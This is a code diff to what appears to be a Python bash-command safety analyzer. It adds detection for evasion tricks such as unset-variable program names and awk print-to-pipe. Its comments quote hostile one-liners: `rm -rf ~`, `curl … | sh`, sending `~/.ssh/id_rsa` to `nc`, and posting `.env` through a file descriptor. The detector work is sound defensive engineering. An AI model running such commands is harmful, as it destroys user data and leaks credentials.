@@ -1767,6 +1767,7 @@ class _Walker:
                 else:
                     self.var_drafts.pop(k, None)
         raw = self.text(node)
+        empty_name = name_empty_first = False
         if dynamic_name and name_node is not None:
             # `c${u}rl`: an unset variable is empty in a fresh shell — if reading unknown variables as
             # empty yields a plain program name, judge that program (the issue is still reported)
@@ -1790,6 +1791,12 @@ class _Walker:
             else:
                 # keep the computed name as written; it names no program we can look up
                 name_vals = [self.text(name_node)]
+                if not any(alt) and not alt_dyn and argv and _unset_name(self.text(name_node), self):
+                    empty_name = True
+                elif not any(alt) and not alt_dyn and argv and _unset_name(argv[0], self):
+                    name_empty_first = True  # `$(true) $x rm -rf ~`: the name prints nothing, then x is unset
+        empty_at = argv[0] if name_empty_first or not empty_name and argv and not any(name_vals) and _unset_name(argv[0], self) \
+            else ""
         argv = name_vals + argv
         if self.fds.table:
             # `exec 3<.env; curl -d @/dev/fd/3 …`: the descriptor's path names the file open on it
@@ -1807,6 +1814,18 @@ class _Walker:
                                 args_dynamic=dyn_args)
         finally:
             self.prefix_env = {}
+        drop = name_node if empty_name else next(
+            (c for c in node.named_children if c is not name_node and self.text(c) == empty_at), None) if empty_at else None
+        src = self.src_stack[-1]
+        if drop is not None and len(self.layers) < 64:
+            # `$x rm -rf ~`, `$x curl … | sh` with x unset: the name is no word at all and the next word is
+            # the program — its statement (the whole pipeline) judged again without it
+            top = node
+            while top.parent is not None and top.parent.type in ("pipeline", "redirected_statement", "negated_command"):
+                top = top.parent
+            if top.end_byte - top.start_byte <= _MAX_RESPLIT:
+                self.nested_shell((src[top.start_byte:drop.start_byte] + src[drop.end_byte:top.end_byte]).decode(
+                    "utf-8", "replace"), via, depth, "as run when the name before the program is empty")
         if draft and (self.fd_substs or self.fd_texts):
             self.exec_fd_operands(draft[0], via, depth)
         if draft:
@@ -2062,15 +2081,16 @@ class _Walker:
                 for producer in _made_into_sent(made, _plain_path(f))[:4]:
                     if len(self.layers) < 64:
                         self.nested_shell(producer + " | " + sender, d.via, 0, "a file written and sent on the same line")
-            for f, reader in files_read_back(prog, args, d.redirects) if made else ():
+            for f, reader in files_read_back(prog, args, d.redirects, d.wrappers) if made else ():
                 producer = made.get(_plain_path(f))
                 if producer is not None and len(self.layers) < 64:
                     self.nested_shell(producer + " | " + reader, d.via, 0, "a file written and read back on the same line")
             if made and any("$(" in a or "`" in a for a in args):
                 # `brew list > /tmp/l; brew uninstall $(cat /tmp/l)`: the words are what the producer printed
-                words = [_READ_BACK.sub(lambda m: _printed_back(m, made), a) for a in args]
+                words = read_back_words(args, lambda f: made.get(_plain_path(f)))
                 if words != list(args) and len(self.layers) < 64:
-                    self.nested_shell(" ".join([_word(prog), *words]), d.via, 0, "a file written and read back on the same line")
+                    self.nested_shell(" ".join([_word(prog)] + [a if "$(" in a else _word(a) for a in words]), d.via, 0,
+                                      "a file written and read back on the same line")
             if not (d.piped and prev is not None and prev.via == d.via and prev.depth == d.depth):
                 pipe = []
             # (spelled only for a stage whose output goes to a file: most pipelines write none)
@@ -2825,6 +2845,11 @@ class _Walker:
                                   f"{d.argv[0]} system()", inherit=d)
             elif runs_template is not None:
                 d.runs_template = runs_template  # its input comes from the stage before (wire)
+            if files:
+                # `awk '{print | "nc h 80"}' ~/.ssh/id_rsa`: what it prints of its files is that command's input
+                for fed in generate.awk_fed_commands(code):
+                    self.nested_shell("cat " + " ".join(_word(f) for f in files[:16]) + " | " + fed, d.via,
+                                      d.depth, f"{d.argv[0]} print |", inherit=d)
         elif lang == "perl" and any(a.startswith("-") and not a.startswith("--") and ("p" in a or "n" in a)
                                     for a in args):
             out, template = generate.perl_text(args, code, data)
@@ -3255,9 +3280,13 @@ def _made_into_sent(made: "dict[str, str]", sent: str) -> list[str]:
 _READ_BACK = lazyre.compile(r"\$\((?:cat\s+|<\s*)([^\s|;&<>(){}$`'\"]+)\s*\)|`cat\s+([^\s|;&<>(){}$`'\"]+)\s*`")
 
 
-def _printed_back(m: "re.Match[str]", made: "dict[str, str]") -> str:
-    producer = made.get(_plain_path(m.group(1) or m.group(2)))
-    return "$(" + producer + ")" if producer is not None else m.group(0)
+def read_back_words(words: "Sequence[str]", producer_of: "Callable[[str], str | None]") -> list[str]:
+    """`words` with each `$(cat F)`, `$(< F)`, `` `cat F` `` of a file whose producer is known (a command
+    earlier on the line, or in an earlier call: adr/daemon/crosscall.py) spelled `$(PRODUCER)`."""
+    def one(m: "re.Match[str]") -> str:
+        producer = producer_of(m.group(1) or m.group(2))
+        return "$(" + producer + ")" if producer else m.group(0)
+    return [_READ_BACK.sub(one, a) if "$(" in a or "`" in a else a for a in words]
 
 
 _CAT_ONE = lazyre.compile(r"cat ([^\s|;&<>(){}$`]+)")
@@ -5139,9 +5168,21 @@ _SPLIT_BY_TREE_SITTER = "\u2028\u2029\u0085\u00a0\u1680\u2000\u2001\u2002\u2003\
                         "\u202f\u205f\u3000"
 
 
+def _unset_name(text: str, w: "_Walker") -> bool:
+    """A command name that is one unquoted variable the line never sets and no user's environment sets
+    for a program (`$x`, `${cmd}`; not `"$x"` — an empty name that fails —, `$EDITOR`, `$CC`)."""
+    m = _BARE_NAME.fullmatch(text)
+    name = (m.group(1) or m.group(2)) if m is not None else ""
+    return bool(name) and name not in bashwords.ENVIRONMENT_PROGRAMS and name not in w.env and name not in w.var_drafts
+
+
+_BARE_NAME = lazyre.compile(r"\$(?:([A-Za-z_]\w*)|\{([A-Za-z_]\w*)\})")
+
+
 def _misread_name(name: str) -> bool:
     bare = name.lstrip(_INVISIBLE_CHARS)
-    return _MISREAD_NAME.match(bare) is not None or not bare.strip(_SPLIT_BY_TREE_SITTER)
+    # (`<<<$""\u3000! rm -rf ~`: tree-sitter-bash split the word at the ideographic space and named `\u3000!`)
+    return _MISREAD_NAME.match(bare.lstrip(_SPLIT_BY_TREE_SITTER)) is not None or not bare.strip(_SPLIT_BY_TREE_SITTER)
 
 
 def _word_split_pass(w: "_Walker", text: str) -> None:
@@ -5707,9 +5748,10 @@ _LIST_FILE_OPTS = {"xargs": ("-a", "--arg-file"), "parallel": ("-a", "--arg-file
 _BATCH_FILE_OPTS = {"sftp": ("-b",), "lftp": ("-f",)}
 
 
-def files_read_back(prog: str, args: "Sequence[str]", redirects: "Sequence[Redirect]") -> "list[tuple[str, str]]":
+def files_read_back(prog: str, args: "Sequence[str]", redirects: "Sequence[Redirect]",
+                    wrappers: "Sequence[str]" = ()) -> "list[tuple[str, str]]":
     """(file as written, the same command reading it from a pipe) for each file `prog args` reads as its
-    input stream or its list of words: `xargs pip uninstall -y < /tmp/l` → `xargs pip uninstall -y`,
+    list of words: `xargs pip uninstall -y < /tmp/l` → `xargs pip uninstall -y`,
     `pip uninstall -r /tmp/l` → `xargs pip uninstall`. A file the line wrote earlier is then judged as
     `PRODUCER | READER` (`pip freeze > /tmp/l; …` as `pip freeze | xargs pip uninstall -y`); a batch
     file of commands (`sftp -b F host`) as those commands on stdin. Files senders send are files_sent's."""
@@ -5720,8 +5762,11 @@ def files_read_back(prog: str, args: "Sequence[str]", redirects: "Sequence[Redir
             return [(args[i + 1], " ".join(_word(w) for w in [prog, *args[:i + 1], "-", *args[i + 2:]]))]
     if prog in _STDIN_SENDERS:
         return []
-    out = [(r.target, " ".join(_word(a) for a in [prog, *args])) for r in redirects
-           if r.op == "<" and r.fd in ("", "0") and r.target]
+    # (stdin read back as a list of words only — xargs's, also as `xargs -a F`: `wc -l < F` reads the
+    # listing for what it says)
+    lister = next((w for w in wrappers if w in ("xargs", "parallel")), "")
+    out = [(r.target, " ".join(_word(a) for a in [*([lister] if lister else []), prog, *args])) for r in redirects
+           if r.op == "<" and r.fd in ("", "0") and r.target and (lister or prog in ("xargs", "parallel"))]
     opts = _LIST_FILE_OPTS.get(prog)
     if opts:
         i = 0
